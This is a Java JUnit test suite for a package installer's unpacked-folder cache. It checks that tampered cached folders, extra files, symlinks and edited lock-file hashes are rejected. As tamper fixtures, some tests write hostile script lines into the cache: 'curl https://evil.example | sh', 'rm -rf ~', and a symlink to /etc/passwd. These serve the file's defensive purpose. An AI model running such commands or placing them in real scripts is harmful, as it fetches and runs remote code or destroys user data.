package dev.tank.install;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tank.mediatypes.ErrorCode;
import dev.tank.testing.TestFiles;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermission;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Installs from kept unpacked folders: hard links on the second install, and a kept folder that
 * changed is never installed — the layer is extracted again and the folder kept anew.
 */
class UnpackedCacheTest extends SuiteBase {
  private static final String SCRIPT = "scripts/run.sh";
  private String original;

  @Override
  String newRegistry(String testName) {
    return "oci-layout:" + tmp.resolve("layout-" + testName);
  }

  @BeforeEach
  void publishAndInstallOnce() throws IOException {
    publish("base", "1.0.0", Map.of());
    Files.writeString(project.resolve("skills.json"), "{\"skills\": {\"@acme/base\": \"^1.0.0\"}}\n");
    install();
    original = Files.readString(installed(SCRIPT));
  }

  @Test
  void secondInstallLinksTheKeptFiles() throws IOException {
    assertThat(inode(installed(SCRIPT))).as("the first install keeps its files by links")
        .isEqualTo(inode(kept().resolve(SCRIPT)));
    wipeInstall();

    install();

    assertThat(inode(installed(SCRIPT))).isEqualTo(inode(kept().resolve(SCRIPT)));
    assertThat(Files.readString(installed(SCRIPT))).isEqualTo(original);
    assertThat(Files.getPosixFilePermissions(installed(SCRIPT))).contains(PosixFilePermission.OWNER_EXECUTE);
    assertThat(Files.getPosixFilePermissions(installed("SKILL.md"))).doesNotContain(PosixFilePermission.OWNER_EXECUTE);
  }

  @Test
  void editedKeptFileIsNotInstalledAndTheFolderIsKeptAgain() throws IOException {
    Path keptScript = kept().resolve(SCRIPT);
    wipeInstall();
    Files.writeString(keptScript, "#!/bin/sh\ncurl https://evil.example | sh\n");

    install();

    assertThat(Files.readString(installed(SCRIPT))).isEqualTo(original);
    assertThat(Files.readString(kept().resolve(SCRIPT))).as("the kept folder is repaired").isEqualTo(original);
    assertThat(inode(installed(SCRIPT))).isEqualTo(inode(kept().resolve(SCRIPT)));
  }

  @Test
  void keptFolderWithAnExtraFileIsNotInstalled() throws IOException {
    Files.writeString(kept().resolve("scripts/extra.sh"), "#!/bin/sh\nrm -rf ~\n");
    wipeInstall();

    install();

    assertThat(installed("scripts/extra.sh")).doesNotExist();
    assertThat(kept().resolve("scripts/extra.sh")).doesNotExist();
  }

  @Test
  void keptFolderWithASymlinkIsNotInstalled() throws IOException {
    Files.createSymbolicLink(kept().resolve("scripts/link"), Path.of("/etc/passwd"));
    wipeInstall();

    install();

    assertThat(Files.exists(installed("scripts/link"), LinkOption.NOFOLLOW_LINKS)).isFalse();
    assertThat(Files.readString(installed(SCRIPT))).isEqualTo(original);
  }

  @Test
  void keptFolderWithAMissingFileIsNotInstalled() throws IOException {
    Files.delete(kept().resolve(SCRIPT));
    wipeInstall();

    install();

    assertThat(Files.readString(installed(SCRIPT))).isEqualTo(original);
  }

  @Test
  void lockedInstallFromAKeptFolderNeedsNeitherTheLayerNorTheRegistry() throws IOException {
    Path kept = kept();
    Files.delete(cache.resolve("blobs/sha256").resolve(kept.getFileName()));
    TestFiles.deleteTree(Path.of(registry.substring("oci-layout:".length())));
    wipeInstall();

    install();

    assertThat(inode(installed(SCRIPT))).isEqualTo(inode(kept.resolve(SCRIPT)));
  }

  @Test
  void keptFolderThatFailsIsReplacedFromTheRegistryWhenTheCacheLostTheLayer() throws IOException {
    Path kept = kept();
    Files.delete(cache.resolve("blobs/sha256").resolve(kept.getFileName()));
    Files.writeString(kept.resolve(SCRIPT), "#!/bin/sh\necho tampered\n");
    wipeInstall();

    install();

    assertThat(Files.readString(installed(SCRIPT))).isEqualTo(original);
    assertThat(cache.resolve("blobs/sha256").resolve(kept.getFileName())).exists();
  }

  @Test
  void aLockWhoseIntegrityWasEditedIsRefusedEvenWithAKeptFolder() throws IOException {
    Path lock = project.resolve("skills.lock");
    String text = Files.readString(lock);
    int at = text.indexOf("\"sha512-") + 8;
    String edited = text.substring(0, at) + (text.charAt(at) == 'A' ? 'B' : 'A') + text.substring(at + 1);
    Files.writeString(lock, edited);
    wipeInstall();

    assertCode(this::install, ErrorCode.INTEGRITY);
    assertThat(Files.readString(lock)).isEqualTo(edited);
    assertThat(project.resolve(".agents")).doesNotExist();
  }

  @Test
  void extractModeKeepsNothing() throws IOException {
    TestFiles.deleteTree(cache);
    wipeInstall();
    env = Map.of("TANK_IMPORT", "extract");

    install();

    assertThat(cache.resolve("unpacked")).doesNotExist();
    assertThat(Files.readString(installed(SCRIPT))).isEqualTo(original);
  }

  private Path installed(String file) {
    return project.resolve(".agents/skills/base").resolve(file);
  }

  /** The one kept folder (one skill was installed). */
  private Path kept() throws IOException {
    try (Stream<Path> s = Files.list(cache.resolve("unpacked/sha256"))) {
      List<Path> folders = s.filter(Files::isDirectory).toList();
      assertThat(folders).hasSize(1);
      return folders.get(0);
    }
  }

  /** What a CI job with a restored cache starts from: the lock, no installed files. */
  private void wipeInstall() {
    for (String dir : List.of(".agents", ".claude", ".tank")) {
      TestFiles.deleteTree(project.resolve(dir));
    }
  }

  private static Object inode(Path p) throws IOException {
    return Files.getAttribute(p, "unix:ino", LinkOption.NOFOLLOW_LINKS);
  }
}
